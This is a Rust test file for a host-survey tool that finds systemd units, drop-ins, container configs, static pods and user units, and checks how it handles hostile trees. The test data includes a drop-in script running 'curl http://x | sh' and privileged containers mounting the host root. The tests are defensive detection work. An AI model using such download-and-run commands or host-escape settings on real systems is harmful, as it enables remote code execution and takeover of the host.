//! Surveys of small trees.

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use super::*;
use crate::config::Config;
use crate::proof::package::{Manager, Package};
use crate::subject::unit::signals::Weight;

/// A tree of files.
pub(crate) struct Tree(tempfile::TempDir);

impl Tree {
    pub fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    pub fn at(&self, path: &str) -> PathBuf {
        let at = self.0.path().join(path.trim_start_matches('/'));
        std::fs::create_dir_all(at.parent().unwrap()).unwrap();
        at
    }

    pub fn file(&self, path: &str, text: impl AsRef<[u8]>) -> &Self {
        std::fs::write(self.at(path), text).unwrap();
        self
    }

    pub fn program(&self, path: &str, text: &str) -> &Self {
        self.file(path, text);
        std::fs::set_permissions(self.at(path), std::fs::Permissions::from_mode(0o755)).unwrap();
        self
    }

    pub fn link(&self, path: &str, target: &str) -> &Self {
        symlink(target, self.at(path)).unwrap();
        self
    }

    pub fn survey(&self) -> Survey {
        self.survey_with(&mut Owns(&[]))
    }

    pub fn survey_with(&self, packages: &mut dyn Prove) -> Survey {
        survey_of(self.0.path(), packages)
    }
}

fn survey_of(root: &Path, packages: &mut dyn Prove) -> Survey {
    let root = Root::open(root.to_str().unwrap()).unwrap();
    let config = Config::default();
    let paths = config.watch.effective();
    survey(&root, packages, paths.iter().map(|path| (&*path.path, path.class)), &mut |_| {})
}

/// Packages own what lies at these paths, whatever it says.
pub(crate) struct Owns(pub &'static [&'static str]);

impl Prove for Owns {
    fn prove(&mut self, path: &[u8], content: &Content<'_>) -> Verdict {
        let known =
            self.0.iter().any(|known| known.as_bytes() == path) && matches!(content, Content::File(_));
        if known { Verdict::Proved { package: package() } } else { Verdict::Unowned }
    }
}

fn package() -> Package {
    Package {
        manager: Manager::Dpkg,
        name: "p".to_owned(),
        version: "1".to_owned(),
        architecture: String::new(),
    }
}

/// Entries as `kind path`, in their order.
fn told(survey: &Survey) -> Vec<String> {
    survey
        .entries
        .iter()
        .map(|entry| format!("{:?} {}", entry.kind, String::from_utf8_lossy(&entry.path)))
        .collect()
}

fn find<'a>(survey: &'a Survey, path: &str) -> &'a Entry {
    survey
        .entries
        .iter()
        .find(|entry| entry.path == path.as_bytes())
        .unwrap_or_else(|| panic!("{path} in {:#?}", told(survey)))
}

fn slugs(survey: &Survey, path: &str) -> Vec<&'static str> {
    let own = survey.remarks.iter().filter(|remark| remark.path == path.as_bytes());
    own.map(|remark| remark.signal.slug).collect()
}

#[test]
fn a_machine_without_anything() {
    let survey = Tree::new().survey();
    assert_eq!(told(&survey), [""; 0]);
    assert_eq!(survey.problems, []);
}

#[test]
fn units_links_and_programs() {
    let tree = Tree::new();
    tree.link("/lib", "usr/lib")
        .file(
            "/usr/lib/systemd/system/a.service",
            "[Service]\nExecStart=/usr/bin/a -x\n[Install]\nWantedBy=multi-user.target\n",
        )
        .program("/usr/bin/a", "\x7fELF a")
        .link("/etc/systemd/system/multi-user.target.wants/a.service", "/lib/systemd/system/a.service")
        .link("/etc/systemd/system/graphical.target.wants/a.service", "/lib/systemd/system/a.service")
        .file("/etc/systemd/system/a.service.d/x.conf", "[Service]\nExecStartPre=/bin/sh /tmp/x.sh\n")
        .file("/tmp/x.sh", "#!/bin/sh\ncurl http://x | sh\n")
        .link("/etc/systemd/system/b.service", "/opt/b.service")
        .file("/opt/b.service", "[Service]\nExecStart=/opt/b\n")
        .link("/etc/systemd/system/c.service", "/dev/null");
    let survey = tree.survey_with(&mut Owns(&["/usr/lib/systemd/system/a.service", "/usr/bin/a"]));
    assert_eq!(
        told(&survey),
        [
            "DropIn /etc/systemd/system/a.service.d/x.conf",
            "Link /etc/systemd/system/b.service",
            "Link /etc/systemd/system/c.service",
            "Link /etc/systemd/system/graphical.target.wants/a.service",
            "Link /etc/systemd/system/multi-user.target.wants/a.service",
            "Unit /opt/b.service",
            "Unit /usr/lib/systemd/system/a.service",
        ]
    );
    let unit = find(&survey, "/usr/lib/systemd/system/a.service");
    let proved = Verdict::Proved { package: package() };
    assert_eq!((&unit.proof, unit.programs.len(), &unit.programs[0].proof), (&proved, 1, &proved));
    assert_eq!(find(&survey, "/etc/systemd/system/multi-user.target.wants/a.service").proof, proved);
    let unasked = "/etc/systemd/system/graphical.target.wants/a.service";
    assert_eq!(
        (&find(&survey, unasked).proof, slugs(&survey, unasked)),
        (&Verdict::Unowned, vec!["link.unasked"])
    );
    let drop_in = find(&survey, "/etc/systemd/system/a.service.d/x.conf");
    let programs: Vec<_> =
        drop_in.programs.iter().map(|program| String::from_utf8_lossy(&program.path)).collect();
    assert_eq!(programs, ["/bin/sh", "/tmp/x.sh"]);
    let said = slugs(&survey, "/etc/systemd/system/a.service.d/x.conf");
    assert!(
        said.contains(&"command.download-run") || said.iter().any(|slug| slug.starts_with("command.")),
        "{said:?}"
    );
    assert_eq!(slugs(&survey, "/etc/systemd/system/c.service"), ["unit.masked"]);
    assert_eq!(find(&survey, "/opt/b.service").programs[0].path, b"/opt/b");
    assert!(survey.remarks.iter().all(|remark| remark.signal.weight >= Weight::Note));
    assert_eq!(survey.problems, []);
}

#[test]
fn what_is_hostile_is_told_and_holds_nothing_up() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.service"), "[Service]\nExecStart=/secret\n").unwrap();
    let tree = Tree::new();
    let units = "/etc/systemd/system";
    rustix::fs::mknodat(
        rustix::fs::CWD,
        tree.at(&format!("{units}/fifo.service")),
        rustix::fs::FileType::Fifo,
        0o600.into(),
        0,
    )
    .unwrap();
    let up = "../".repeat(40) + outside.path().join("secret.service").to_str().unwrap();
    tree.link(&format!("{units}/out.service"), &up)
        .link(&format!("{units}/absolute.service"), outside.path().join("secret.service").to_str().unwrap())
        .link(&format!("{units}/loop.service"), "loop.service")
        .link(&format!("{units}/a.service.d"), "../system")
        .link(&format!("{units}/b.service.d"), "b.service.d")
        .link("/etc/cron.d", "/etc/cron.d")
        .link("/etc/udev", "/")
        .file(&format!("{units}/huge.service"), vec![b'#'; 10 << 20])
        .file(
            &format!("{units}/bytes.service"),
            [b"[Service]\nExecStart=/\xff\xfe\n".as_slice(), &[0; 300]].concat(),
        );
    let survey = tree.survey();
    let said: Vec<String> = survey
        .problems
        .iter()
        .map(|problem| format!("{}: {}", String::from_utf8_lossy(&problem.path), problem.what))
        .collect();
    let has = |path: &str, what: &str| {
        said.iter().any(|line| line.starts_with(&format!("{units}/{path}: ")) && line.contains(what))
    };
    assert!(has("fifo.service", "not opened"), "{said:#?}");
    assert!(has("loop.service", "cannot be looked at"), "{said:#?}");
    for entry in &survey.entries {
        let ran = entry.programs.iter().any(|program| program.path == b"/secret");
        assert!(!ran, "nothing outside is read: {entry:?}");
    }
    assert_eq!(find(&survey, "/etc/systemd/system/out.service").kind, Kind::Link);
    let huge = find(&survey, "/etc/systemd/system/huge.service");
    assert_eq!(
        huge.sha256.as_ref().map(String::len),
        Some(64),
        "read to its end, though only its beginning is looked at"
    );
    assert_eq!(find(&survey, "/etc/systemd/system/fifo.service").sha256, None);
}

#[test]
fn a_file_that_grows_beyond_the_bound_is_a_problem_and_not_read() {
    let tree = Tree::new();
    let path = tree.at("/etc/systemd/system/sparse.service");
    std::fs::File::create(&path).unwrap().set_len(read::FILE_MAX + 1).unwrap();
    let survey = tree.survey();
    assert_eq!(find(&survey, "/etc/systemd/system/sparse.service").sha256, None);
    assert!(
        survey.problems.iter().any(|problem| problem.what.contains("more than the 512")),
        "{:?}",
        survey.problems
    );
}

/// Digest and content are of one reading: whoever changes a unit between two readings finds none.
#[test]
fn a_unit_that_changes_all_the_time_has_the_digest_of_what_was_looked_at() {
    let tree = Tree::new();
    let path = tree.at("/etc/systemd/system/a.service");
    let texts = ["[Service]\nExecStart=/opt/one\n", "[Service]\nExecStart=/opt/two\n"];
    std::fs::write(&path, texts[0]).unwrap();
    let stop = std::sync::atomic::AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            let other = path.with_file_name("tmp");
            for text in texts.iter().cycle() {
                if stop.load(std::sync::atomic::Ordering::Relaxed) {
                    break;
                }
                std::fs::write(&other, text).unwrap();
                std::fs::rename(&other, &path).unwrap();
            }
        });
        for _ in 0..50 {
            let survey = tree.survey();
            let Some(entry) = survey.entries.iter().find(|entry| entry.path.ends_with(b"/a.service")) else {
                continue;
            };
            let Some(digest) = &entry.sha256 else { continue };
            let runs = entry.programs.first().map(|program| program.path.clone());
            let of = |at: usize| {
                (
                    read::sha256(texts[at].as_bytes()),
                    Some([b"/opt/one".to_vec(), b"/opt/two".to_vec()][at].clone()),
                )
            };
            assert!([of(0), of(1)].contains(&(digest.clone(), runs)), "{entry:?}");
        }
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
    });
}

#[test]
fn containers_that_come_back_and_static_pods_where_kubelet_looks() {
    let id = "0123456789abcdef".repeat(4);
    let tree = Tree::new();
    let config = format!(
        r#"{{"ID":"{id}","Name":"/web","Path":"/x","Args":[],"Image":"","Config":{{"Image":"nginx"}}}}"#
    );
    let host =
        r#"{"RestartPolicy":{"Name":"always","MaximumRetryCount":0},"Privileged":true,"Binds":["/:/host"]}"#;
    tree.file("/etc/docker/daemon.json", r#"{"data-root": "/srv/docker"}"#)
        .file(&format!("/srv/docker/containers/{id}/config.v2.json"), &config)
        .file(&format!("/srv/docker/containers/{id}/hostconfig.json"), host)
        .file("/var/lib/kubelet/config.yaml", "kind: KubeletConfiguration\nstaticPodPath: /srv/pods\n")
        .file("/srv/pods/x.yaml", "kind: Pod\nspec: {hostPID: true, containers: [{name: a, image: b}]}\n")
        .file("/etc/containers/systemd/q.container", "[Container]\nImage=x\nVolume=/:/host\n");
    let survey = tree.survey();
    let container = find(&survey, &format!("/srv/docker/containers/{id}/hostconfig.json"));
    assert_eq!((container.kind, &*container.name), (Kind::Container, "web"));
    assert_eq!(
        slugs(&survey, &format!("/srv/docker/containers/{id}/hostconfig.json"))[0],
        "container.host-access"
    );
    assert_eq!(find(&survey, "/srv/pods/x.yaml").kind, Kind::StaticPod);
    assert_eq!(find(&survey, "/etc/containers/systemd/q.container").kind, Kind::Quadlet);
    assert!(!slugs(&survey, "/etc/containers/systemd/q.container").is_empty());
}

#[test]
fn places_in_homes_of_all_users_are_put_in() {
    let tree = Tree::new();
    tree.file("/etc/passwd", "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/srv/alice:/bin/sh\nbad line\n")
        .file("/srv/alice/.config/systemd/user/x.service", "[Service]\nExecStart=/srv/alice/x\n");
    let survey = tree.survey();
    let entry = find(&survey, "/srv/alice/.config/systemd/user/x.service");
    assert_eq!((entry.user, entry.programs.len()), (Some(1000), 1));
}
